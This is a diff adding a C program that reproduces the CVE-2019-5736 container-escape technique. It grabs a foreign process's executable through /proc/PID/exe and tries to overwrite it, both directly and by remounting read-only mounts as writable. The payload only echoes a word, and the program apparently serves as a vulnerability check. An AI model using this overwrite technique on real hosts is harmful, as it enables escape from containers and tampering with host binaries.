@@ -1,0 +1,100 @@
+/*
+ * overwrite SECONDS: CVE-2019-5736 from inside. Waits for a process whose executable is not ours, keeps that file by /proc/PID/exe,
+ * and tries to write to it by every way there is once it is not busy. Prints "overwritten", or what each way failed with.
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/mount.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static const char payload[] = "#!/bin/sh\necho overwritten\n";
+
+static struct stat own;
+
+/* A busybox that shares our root is no prey: only what is no file of this root's own /bin. */
+static int is_prey(int fd)
+{
+	struct stat st, box;
+	if (fstat(fd, &st) < 0 || (st.st_ino == own.st_ino && st.st_dev == own.st_dev))
+		return 0;
+	return stat("/bin/busybox", &box) < 0 || st.st_ino != box.st_ino || st.st_dev != box.st_dev;
+}
+
+static int find_prey(void)
+{
+	DIR *proc = opendir("/proc");
+	int found = -1;
+	for (struct dirent *e; proc && found < 0 && (e = readdir(proc));) {
+		char path[300];
+		(void)snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
+		int fd = *e->d_name >= '1' && *e->d_name <= '9' ? open(path, O_PATH) : -1;
+		if (fd >= 0 && is_prey(fd))
+			found = fd;
+		else if (fd >= 0)
+			(void)close(fd);
+	}
+	if (proc)
+		(void)closedir(proc);
+	return found;
+}
+
+static int write_by(int fd)
+{
+	char path[64];
+	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	int file = open(path, O_WRONLY);
+	if (file < 0)
+		return errno;
+	ssize_t n = write(file, payload, sizeof(payload) - 1);
+	int result = n < 0 ? errno : 0;
+	(void)close(file);
+	return result;
+}
+
+/* Whoever may mount tries to make the mount writable, or a writable copy of it. */
+static int write_by_mount(int fd)
+{
+	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
+	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
+		return write_by(fd);
+	int tree = (int)syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
+	if (tree < 0)
+		return errno;
+	(void)syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr));
+	return write_by(tree);
+}
+
+int main(int argc, char **argv)
+{
+	int prey = -1, result = 0, mount = 0;
+	long tries = (argc > 1 ? atol(argv[1]) : 5) * 200;
+	(void)stat("/proc/self/exe", &own);
+	for (; tries > 0 && prey < 0; tries--) {
+		prey = find_prey();
+		if (prey < 0)
+			(void)usleep(5000);
+	}
+	if (prey < 0) {
+		puts("no prey");
+		return 1;
+	}
+	puts("kept");
+	(void)fflush(stdout);
+	for (; tries > 0; tries--) {
+		result = write_by(prey);
+		mount = result ? write_by_mount(prey) : 0;
+		if (!result || !mount) {
+			puts("overwritten");
+			return 0;
+		}
+		(void)usleep(5000);
+	}
+	printf("open: %s; mount: %s\n", strerror(result), strerror(mount));
+	return 1;
+}
